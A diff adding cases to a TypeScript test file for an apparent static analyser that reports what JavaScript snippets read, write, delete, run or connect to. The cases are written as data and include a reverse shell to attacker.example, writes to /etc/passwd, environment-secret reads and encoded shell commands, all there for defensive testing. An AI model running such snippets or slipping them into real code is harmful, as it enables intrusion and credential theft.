@@ -26,6 +26,11 @@ test('understands code that only computes and prints', () => {
     ["import { createHash } from 'node:crypto'; console.log(createHash('md5').update('a').digest('hex'))", 'ok'],
     ['for (const [k, v] of Object.entries({ a: 1 })) console.log(k, v)', 'ok'],
     ["console.log(String.fromCharCode(97, 98), Buffer.from('YQ==', 'base64').toString())", 'ok'],
+    ['const o = { b: function () { return 2 } }; console.log(o.b())', 'ok'],
+    ['console.log([1].with(0, 2), 0x10, 1e3, 0.5)', 'ok'],
+    ['console.log(String.raw`a`)', 'ok'],
+    ['process.exitCode = 1; module.exports = {}', 'ok'],
+    ["import d from 'a/data.json'; console.log(new Map().get('a'))", 'ok'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
@@ -59,6 +64,11 @@ test('notes files that are read, written, deleted and run', () => {
     ['console.log(process.env)', 'ok secret=?'],
     ["p = '/tmp/x'; [p] = ['/etc/passwd']; fs.writeFileSync(p, 'x')", 'ok write=?'],
     ["(p => fs.writeFileSync(p, 'x'))('/etc/passwd'); p = '/tmp/x'", 'ok write=?'],
+    ["console.log(require('./x')[0])", 'ok script=./x'],
+    ["fs.readFileSync(0, 'utf8'); fs.writeFileSync(1, 'x'); fs.unlinkSync(5)", 'ok delete=?'],
+    ["import { default as f } from 'fs'; f.unlinkSync('a')", 'ok delete=a'],
+    ["console.log(require('./x.json'))", 'ok read=./x.json'],
+    ['const { API_TOKEN } = process.env; console.log(API_TOKEN)', 'ok secret=API_TOKEN'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
@@ -79,6 +89,12 @@ test('notes commands however they are run', () => {
       'sh = require("child_process").spawn("/bin/sh"); require("net").connect(12345, "attacker.example", function () { this.pipe(sh.stdin); })',
       'no shell=/bin/sh connect=attacker.example',
     ],
+    ["child_process.spawnSync('sleep', [5])", 'ok shell=sleep 5'],
+    ["child_process.spawnSync('sleep', [010])", 'ok shell=?'],
+    ['child_process.spawn()', 'ok'],
+    ['Bun.spawn([])', 'ok shell=?'],
+    ["child_process.spawn('git', ['commit', '-m', ''])", "ok shell=git commit -m ''"],
+    ["child_process.spawn('git', args)", 'no shell=git'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
@@ -91,6 +107,8 @@ test('looks into code that the code makes', () => {
     ["new Function('return 1')()", 'no'],
     ['eval(process.argv[1])', 'no opaque=?'],
     ['vm.runInNewContext("1+1")', 'ok'],
+    ['(function eval() {}); eval("require(\'fs\').unlinkSync(\'x\')")', 'ok delete=x'],
+    ['eval("require(\'fs\').unlinkSync(\'x\')")\n{ }', 'ok delete=x'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
@@ -105,6 +123,8 @@ test('notes the network', () => {
       'no read=/k upload=http://a.example/x',
     ],
     ["new WebSocket('ws://a.example')", 'ok connect=ws://a.example'],
+    ["client.get('http://a.example')", 'ok fetch=http://a.example'],
+    ['net.connect(80)', 'no connect=?'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
@@ -141,6 +161,35 @@ test('does not understand what leads out of plain data', () => {
     ["undefinedFunction('x')", 'no'],
     ["process.getBuiltinModule('child_process').execSync('id')", 'no shell=id'],
     ["require('module')._load('child_process')", 'no opaque=?'],
+    ["const { 'a': b } = require('fs')", 'no'],
+    ["const { a = 1 } = require('fs')", 'no'],
+    ["const { rmSync: r = 1, x } = require('fs'); r('a')", 'no delete=a'],
+    ["var module = require('fs'); module.exports = 1", 'no'],
+    ['with (console) log(1)', 'no'],
+    ['require(...x)', 'no opaque=?'],
+    ['require()', 'no opaque=?'],
+  ];
+  for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
+});
+
+test('follows a constant through what only changes its form', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ['child_process.exec(String.fromCharCode(105, 100))', 'ok shell=id'],
+    ['child_process.exec(String.fromCharCode(0xe9))', 'ok shell=?'],
+    ['child_process.exec(String.fromCharCode(1.5))', 'ok shell=?'],
+    ['child_process.exec(String.fromCharCode(x))', 'ok shell=?'],
+    ["child_process.exec(Buffer.from('é', 'latin1').toString())", 'ok shell=?'],
+    ["child_process.exec(Buffer.from('é').toString('latin1'))", 'ok shell=?'],
+    ["child_process.exec(Buffer.from('é').toString('utf8'))", 'ok shell=é'],
+    ["child_process.exec(Buffer.from('id', 'latin1').toString('ASCII'))", 'ok shell=id'],
+    ["child_process.exec(Buffer.from('id').toString('base64'))", 'ok shell=?'],
+    ["child_process.exec(Buffer.from('aWQ=', 'base64url').toString())", 'ok shell=id'],
+    ["child_process.exec(Buffer.from('6964', 'hex').toString())", 'ok shell=id'],
+    ["child_process.exec(Buffer.from('696', 'hex').toString())", 'ok shell=?'],
+    ['child_process.exec(Buffer.from())', 'ok shell=?'],
+    ['child_process.exec(Buffer.from([1]).toString())', 'ok shell=?'],
+    ["fs.writeFileSync(path.resolve('a', '/etc/passwd'), 'x')", 'ok write=?'],
+    ["fs.writeFileSync(util.format('%s', '/etc/passwd'), 'x')", 'ok write=?'],
   ];
   for (const [code, expected] of cases) assert.equal(describeReading('javascript', code), expected, code);
 });
